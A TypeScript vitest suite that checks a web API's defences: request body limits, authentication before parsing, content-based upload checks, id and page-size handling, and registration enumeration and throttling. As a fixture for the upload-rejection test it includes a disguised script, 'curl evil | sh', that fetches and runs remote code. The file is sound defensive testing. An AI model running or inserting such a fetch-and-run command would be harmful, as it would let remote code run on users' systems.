import { declaredBodyLength } from './security';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAuthTestApp, graph, signIn, TEST_PASSWORD, type AuthTestApp } from '../test/auth';

process.env.TRUST_PROXY = '1';

let t: AuthTestApp;
let token: string;
beforeAll(async () => {
  t = await createAuthTestApp();
  token = await signIn(t.app, 'admin', TEST_PASSWORD, '10.90.0.1');
});
afterAll(async () => {
  await t.db.close();
});

/** A body that streams its bytes without announcing a length (between an optional head and tail). */
function streamOf(bytes: number, chunk = 64 * 1024, head = '', tail = ''): ReadableStream<Uint8Array> {
  let sent = 0;
  let started = false;
  return new ReadableStream({
    pull(controller) {
      if (!started) {
        started = true;
        if (head) return controller.enqueue(new TextEncoder().encode(head));
      }
      if (sent >= bytes) {
        if (tail) controller.enqueue(new TextEncoder().encode(tail));
        return controller.close();
      }
      const n = Math.min(chunk, bytes - sent);
      sent += n;
      controller.enqueue(new Uint8Array(n).fill(0x61));
    },
  });
}

describe('body limits', () => {
  it('the graph refuses more than 1 MB, also when the body streams without a Content-Length', async () => {
    const big = JSON.stringify({ query: '{ __typename }', variables: { x: 'a'.repeat(1024 * 1024) } });
    const res = await t.app.request('/api/v2/graph', { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: big });
    expect(res.status).toBe(413);
    const streamed = await t.app.request('/api/v2/graph', {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: streamOf(2 * 1024 * 1024),
      duplex: 'half',
    } as RequestInit);
    expect(streamed.status).toBe(413);
  });

  it('a declared Content-Length over 1 MB is refused by its header; a chunked body is still counted', async () => {
    const big = JSON.stringify({ query: '{ __typename }', variables: { x: 'a'.repeat(1024 * 1024) } });
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}`, 'content-length': String(Buffer.byteLength(big)) };
    const res = await t.app.request('/api/v2/graph', { method: 'POST', headers, body: big });
    expect(res.status).toBe(413);
    expect(declaredBodyLength('POST', '1048577', undefined)).toBe(1048577);
    expect(declaredBodyLength('GET', undefined, undefined)).toBe(0);
    expect(declaredBodyLength('POST', '10', 'chunked')).toBeNull();
    expect(declaredBodyLength('POST', undefined, undefined)).toBeNull();
    expect(declaredBodyLength('POST', '1e9', undefined)).toBeNull();
  });

  it('files: 10 MB counted while streaming (no Content-Length to trust)', async () => {
    const head = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n';
    const res = await t.app.request('/api/files', {
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=x', authorization: `Bearer ${token}` },
      body: streamOf(11 * 1024 * 1024, 64 * 1024, head, '\r\n--x--\r\n'),
      duplex: 'half',
    } as RequestInit);
    expect(res.status).toBe(413);
  });
});

describe('authenticate before parsing', () => {
  it('an anonymous malformed multipart graph request is refused as anonymous, not parsed (no 500)', async () => {
    const res = await t.app.request('/api/v2/graph', { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=abc' }, body: '--zzz\r\nbroken' });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe('no_current_user');
    const signedIn = await t.app.request('/api/v2/graph', { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=abc', authorization: `Bearer ${token}` }, body: '--zzz\r\nbroken' });
    expect(signedIn.status).toBe(400);
  });

  it('another content type or broken GET parameters: 4xx, not 500', async () => {
    const form = await t.app.request('/api/v2/graph', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Bearer ${token}` }, body: 'query={__typename}&variables={' });
    expect(form.status).toBe(415);
    const get = await t.app.request('/api/v2/graph?query={__typename}&variables={', { headers: { authorization: `Bearer ${token}` } });
    expect(get.status).toBe(400);
  });
});

describe('uploads are checked by content', () => {
  const upload = (name: string, bytes: BlobPart) => {
    const form = new FormData();
    form.set('file', new File([bytes], name));
    return t.app.request('/api/files', { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
  };
  it('a script named .pdf, an executable named .png, a binary named .txt are refused; the real thing is stored', async () => {
    expect((await upload('rapport.pdf', '#!/bin/sh\ncurl evil | sh\n')).status).toBe(400);
    expect((await upload('foto.png', new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00]))).status).toBe(400);
    expect((await upload('notitie.txt', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0x00, 0x01]))).status).toBe(400);
    const pdf = await upload('rapport.pdf', '%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
    expect(pdf.status).toBe(201);
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
    expect((await upload('foto.png', png)).status).toBe(201);
    expect((await upload('notitie.txt', 'Gewone tekst, met ë en ñ.\n')).status).toBe(201);
  });
});

describe('ids and page sizes', () => {
  it('huge, negative and odd ids answer "not found", never an error', async () => {
    for (const id of ['99999999999999999999', '-1', '0', '1e3', ' 1', 'abc', '9223372036854775808']) {
      const res = await graph<{ participant: unknown }>(t.app, 'query($id: ID) { participant(id: $id) { id } }', { token, variables: { id } });
      expect(res.errors, id).toBeUndefined();
      expect(res.data?.participant, id).toBeNull();
    }
  });

  it('perPage is capped at 500; 0 ("all") is capped too; negative is the default size', async () => {
    for (let i = 0; i < 3; i++) await t.db.query('INSERT INTO invitations (company_id, username, email) SELECT $1, $2 || g, $2 || g || \'@example.nl\' FROM generate_series(1, 260) g', [t.fx.companyA, `u${i}_`]).catch(() => undefined);
    const count = async (perPage: number) => {
      const res = await graph<{ users: { records: unknown[] } }>(t.app, 'query($p: Int) { users(perPage: $p) { totalItems records { id } } }', { token, variables: { p: perPage } });
      return res.data?.users.records.length ?? -1;
    };
    const all = await count(0);
    expect(all).toBeGreaterThan(0);
    expect(all).toBeLessThanOrEqual(500);
    expect(await count(-5)).toBeLessThanOrEqual(15);
    expect(await count(100000)).toBeLessThanOrEqual(500);
  });
});

describe('enumeration', () => {
  it('registration answers the same for a taken and a free username', async () => {
    const ask = async (username: string) =>
      graph<{ register: { success: boolean; reason: string | null } }>(t.app, 'mutation($u: String!) { register(code: "CODE-A", username: $u, email: "nieuw@example.nl") { success reason } }', {
        variables: { u: username },
        headers: { 'x-forwarded-for': '10.91.0.1' },
      });
    const taken = await ask('coach');
    const free = await ask('nog_niet_bestaand');
    expect(taken.data).toEqual(free.data);
    expect(taken.data?.register.success).toBe(true);
  });

  it('registration is throttled per address (codes or names cannot be tried at speed)', async () => {
    const answers: (boolean | undefined)[] = [];
    for (let i = 0; i < 60; i++) {
      const res = await graph<{ register: { success: boolean } }>(t.app, `mutation { register(code: "GOK-${i}", username: "naam${i}", email: "x${i}@example.nl") { success reason } }`, {
        headers: { 'x-forwarded-for': '10.91.0.2' },
      });
      answers.push(res.data?.register.success);
    }
    expect(answers.every((a) => a === false)).toBe(true);
    const { rows } = await t.db.query<{ n: number }>("SELECT count(*)::int AS n FROM audit_log WHERE action = 'registration.request' AND result = 'refused' AND ip = '10.91.0.2'");
    expect(rows[0]?.n).toBeGreaterThan(0);
  });
});
